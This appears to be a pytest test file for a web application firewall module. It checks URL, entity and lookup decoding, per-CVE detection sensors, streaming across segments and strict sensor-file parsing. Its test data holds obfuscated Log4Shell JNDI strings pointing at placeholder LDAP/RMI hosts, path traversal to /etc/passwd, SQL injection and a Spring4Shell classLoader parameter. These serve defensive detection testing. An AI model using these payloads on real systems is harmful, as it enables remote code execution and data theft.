"""WAF sensors without root: decoding steps, each built-in sensor on clear and obfuscated
exploits, the benign corpus, the stream across segments, and strict sensor files."""

from __future__ import annotations

from pathlib import Path

import pytest

from stockade.model.errors import ConfigError
from stockade.network.waf import WafEngine, builtin_sensors, load_sensor_file, parse_sensors
from stockade.network.waf.normalize import html_entities, lookups, normalize, sql, url_decode
from stockade.network.waf.request import split
from tests.network.waf_corpus import BENIGN, EXPLOITS, get, post

ENGINE = WafEngine()


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("%2e%2e%2f", "../"),
        ("%252e%252e%252f", "../"),  # double
        ("%25252e", "."),  # triple, the most MAX_ROUNDS allows
        ("..%c0%af..%c0%af%c0%ae", "../../."),  # overlong UTF-8
        ("%u002e%u002e%u2215", "../"),  # IIS %u and a wide slash
        ("a+b%20c", "a b c"),
        ("100%", "100%"),
        ("%zz%4", "%zz%4"),
    ],
)
def test_url_decoding(raw: str, decoded: str) -> None:
    assert url_decode(raw) == decoded


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("&#36;&#123;", "${"),
        ("&#x24;&lbrace;", "${"),
        ("&amp;#36;", "$"),  # entity-encoded entity
        ("fish &amp chips", "fish & chips"),
        ("no entities", "no entities"),
    ],
)
def test_html_entities(raw: str, decoded: str) -> None:
    assert html_entities(raw) == decoded


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("${${lower:j}ndi:ldap://x/a}", "${jndi:ldap://x/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "${jndi:rmi://x}"),
        ("${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", "${jndi:ldap://x}"),
        ("${j${k8s:k5:-ND}i:dns://x}", "${jNDi:dns://x}"),
        ("${${upper:j}ndi:x}", "${Jndi:x}"),
        ("${${date:'j'}ndi:x}", "${jndi:x}"),
        ("${${lower:${lower:jndi}}:ldap://x}", "${jndi:ldap://x}"),
        ("Hello ${name}, total ${env:HOME}", "Hello ${name}, total "),
        ("$5 and ${", "$5 and ${"),
    ],
)
def test_lookup_unwrapping(raw: str, decoded: str) -> None:
    assert lookups(raw) == decoded


def test_lookup_unwrapping_is_bounded() -> None:
    deep = "${lower:" * 5000 + "j" + "}" * 5000
    assert len(lookups(deep)) < len(deep)  # 64 rounds at most: terminates, no recursion


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("union/**/select", "union select"),
        ("/*!50000union*/ /*!50000select*/", " union select "),
        ("union\t\n  select", "union select"),
    ],
)
def test_sql_normalisation(raw: str, decoded: str) -> None:
    assert sql(raw).strip() == decoded.strip()


def test_steps_compose_in_order() -> None:
    assert normalize("%24%7B%24%7Blower:J%7Dndi:", ("url", "lookups", "lower")) == "${jndi:"


@pytest.mark.parametrize(
    ("sensor", "request_bytes"), EXPLOITS, ids=[f"{s}-{i}" for i, (s, _) in enumerate(EXPLOITS)]
)
def test_each_exploit_is_found_by_its_sensor(sensor: str, request_bytes: bytes) -> None:
    found = ENGINE.scan_request(request_bytes)
    assert sensor in [m.sensor for m in found]
    # the Hyperscan prefilter never hides what the exact patterns see
    req = split(request_bytes, 0)[0][0]
    assert {m.sensor for m in ENGINE.judge(req)} == {m.sensor for m in found}


def test_every_sensor_has_exploits_and_the_pack_names_its_cves() -> None:
    ids = {s.id for s in builtin_sensors()}
    assert ids == {s for s, _ in EXPLOITS}
    cves = {s.id: s.cves for s in builtin_sensors()}
    assert cves["waf.log4shell"] == ("CVE-2021-44228", "CVE-2021-45046")
    assert cves["waf.spring4shell"] == ("CVE-2022-22965",)
    assert set(cves["waf.shellshock"]) == {  # the first bug and the parser bugs behind it
        *("CVE-2014-6271", "CVE-2014-7169", "CVE-2014-7186"),
        *("CVE-2014-7187", "CVE-2014-6277", "CVE-2014-6278"),
    }


def test_benign_corpus_raises_nothing_and_figures_are_printed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert len(BENIGN) >= 200
    false_positives = [(r[:80], [m.sensor for m in ENGINE.scan_request(r)]) for r in BENIGN]
    false_positives = [fp for fp in false_positives if fp[1]]
    detected = sum(1 for s, r in EXPLOITS if s in [m.sensor for m in ENGINE.scan_request(r)])
    with capsys.disabled():
        print(
            f"\nWAF corpus: detections on exploits {detected}/{len(EXPLOITS)}, "
            f"false positives on benign {len(false_positives)}/{len(BENIGN)}"
        )
    assert false_positives == []
    assert detected == len(EXPLOITS)


def test_an_exploit_cut_into_single_bytes_is_found_once() -> None:
    data = get("/", "User-Agent: ${${lower:j}ndi:ldap://x.example/a}")
    stream = ENGINE.stream()
    found = [m for i in range(len(data)) for m in stream.feed(data[i : i + 1])]
    assert [m.sensor for m in found] == ["waf.log4shell"]
    assert found[0].where == "header:User-Agent" and found[0].cves[0] == "CVE-2021-44228"


def test_keep_alive_requests_are_judged_each() -> None:
    clean = get("/index.html")
    bad = get("/static/../../etc/passwd")
    stream = ENGINE.stream()
    assert stream.feed(clean) == []
    assert stream.feed(clean + clean) == []
    found = stream.feed(bad)
    assert [(m.sensor, m.request_start) for m in found] == [("waf.path_traversal", 3 * len(clean))]


def test_a_body_still_arriving_is_judged_on_what_arrived() -> None:
    req = post(
        "/c",
        "q=" + "a" * 3000 + "&class.module.classLoader.x=1",
        "application/x-www-form-urlencoded",
    )
    stream = ENGINE.stream()
    cut = len(req) - 3  # the body ends in "classLoader.", its last 3 bytes still to come
    found = stream.feed(req[:cut])
    assert [m.sensor for m in found] == ["waf.spring4shell"]
    assert stream.feed(req[cut:]) == []  # reported once


def test_not_http_is_left_alone() -> None:
    stream = ENGINE.stream()
    assert stream.feed(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc${jndi:ldap://x}") == []
    assert stream.feed(get("/?x=${jndi:ldap://x/a}")) == []  # stopped: not HTTP from the start


def test_evidence_is_masked_and_short() -> None:
    body = '{"card": "4111 1111 1111 1111", "q": "1\' union select null,null--"}'
    found = ENGINE.scan_request(post("/s", body))
    assert [m.sensor for m in found] == ["waf.sqli"]
    assert len(found[0].evidence) <= 64 and "4111 1111 1111 1111" not in found[0].evidence


SENSOR_FILE = """\
sensors:
  - id: waf.acme_debug
    title: ACME debug console
    cves: [CVE-2099-12345]
    in: [url]
    patterns: ['/__debug__/console']
"""


def test_user_sensor_file(tmp_path: Path) -> None:
    f = tmp_path / "waf.yaml"
    f.write_text(SENSOR_FILE)
    sensors = load_sensor_file(f)
    engine = WafEngine(sensors)
    found = engine.scan_request(get("/__DEBUG__/Console?x=1"))
    assert [(m.sensor, m.cves) for m in found] == [("waf.acme_debug", ("CVE-2099-12345",))]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            ("in: [url]", "in: [url]\n    action: block"),
            ":6: sensors[0].action: Extra inputs are not permitted",
        ),
        (("'/__debug__/console'", "'(unclosed'"), ":6: sensors[0].patterns: bad regex"),
        (
            ("in: [url]", "in: [url]\n    decode: [rot13]"),
            ":6: sensors[0].decode: unknown decoding step 'rot13'",
        ),
        (("in: [url]", "in: [cookies]"), ":5: sensors[0].in[0]: Input should be"),
        (
            ("waf.acme_debug", "acme_debug"),
            ":2: sensors[0].id: id 'acme_debug' must be a dotted slug",
        ),
        (("CVE-2099-12345", "CVE-99"), ":4: sensors[0].cves: not a CVE id"),
    ],
)
def test_bad_sensor_files_are_one_line_errors_with_the_line(
    tmp_path: Path, change: tuple[str, str], message: str
) -> None:
    f = tmp_path / "bad.yaml"
    f.write_text(SENSOR_FILE.replace(*change))
    with pytest.raises(ConfigError) as err:
        load_sensor_file(f)
    text = str(err.value)
    assert "\n" not in text and f"{f}{message}" in text, text


def test_duplicate_ids_are_refused() -> None:
    with pytest.raises(ConfigError, match="unique"):
        parse_sensors(SENSOR_FILE + SENSOR_FILE.split("sensors:\n")[1], name="dup.yaml")


def test_a_regex_hyperscan_cannot_prefilter_still_works_by_judging_every_request() -> None:
    (sensor,) = parse_sensors(
        SENSOR_FILE.replace("'/__debug__/console'", r"'(?<=/)__debug__(?=/)'"), name="x.yaml"
    )
    engine = WafEngine([sensor])
    assert [m.sensor for m in engine.scan_request(get("/__debug__/x"))] == ["waf.acme_debug"]
    assert engine.scan_request(get("/index.html")) == []


def test_a_bad_user_prefilter_is_a_config_error() -> None:
    text = SENSOR_FILE.replace("in: [url]", "in: [url]\n    prefilter: ['(?<=a)b']")
    (sensor,) = parse_sensors(text, name="x.yaml")
    with pytest.raises(ConfigError, match=r"waf\.acme_debug: prefilter rejected"):
        WafEngine([sensor])


@pytest.mark.parametrize(
    ("expr", "out", "exact"),
    [
        (r"a\s*b", r"a(?:\s|\+|%20)*b", True),
        (r"union\W*select", r"union(?:\W|%20)*select", True),
        ("a b", r"a(?:\s|\+|%20)b", True),
        (r"[\s,]x", r"[\s+,]x", False),
        (r"[]\s]\s", r"[]\s+](?:\s|\+|%20)", False),
        (r"[^a]", r"[^a]", False),
        (r"\x41", r"\x41", False),
        (r"\\s", r"\\s", True),
    ],
)
def test_prefilters_accept_encoded_spaces(expr: str, out: str, exact: bool) -> None:
    from stockade.network.waf.normalize import space_tolerant

    assert space_tolerant(expr) == (out, exact)


def test_spaces_written_plus_or_percent_20_need_no_decoding_trigger() -> None:
    for raw in (b"/items?id=1+union+select+null,null--", b"/items?id=1%20union%20select%20null--"):
        assert [m.sensor for m in ENGINE.scan_request(get(raw.decode()))] == ["waf.sqli"]
    stream = ENGINE.stream()
    stream.feed(get("/search?q=running%20shoes+for+kids"))
    assert stream._marked is None and stream._base == 0  # nothing was parsed


def test_an_exploit_before_more_than_the_kept_bytes_is_still_found() -> None:
    padded = post(
        "/x", "q=${jndi:ldap://x/a}&pad=" + "a" * 70_000, "application/x-www-form-urlencoded"
    )
    assert [m.sensor for m in ENGINE.scan_request(padded)] == ["waf.log4shell"]
    stream = ENGINE.stream()
    stream.feed(get("/") * 2100)  # past 64 KiB of clean requests: no longer judged (the depth)
    assert stream.feed(get("/?x=${jndi:ldap://x/a}")) == []


@pytest.mark.parametrize(
    "body",
    [
        "1' or " * 10_000,
        "1 or " + "a" * 60_000,
        "${" * 20_000 + "x" + "}" * 20_000,
        "${lower:" * 6000 + "j" + "}" * 6000,
        "%25" * 20_000,
        "/*a*/" * 12_000,
        "; " * 30_000,
    ],
    ids=["or-chain", "long-word", "open-lookups", "nested-lower", "percent", "comments", "semis"],
)
def test_hostile_requests_cost_bounded_time(body: str) -> None:
    import time

    t0 = time.monotonic()
    ENGINE.scan_request(post("/x?" + body[:2000], body, "text/plain"))
    assert time.monotonic() - t0 < 2.0
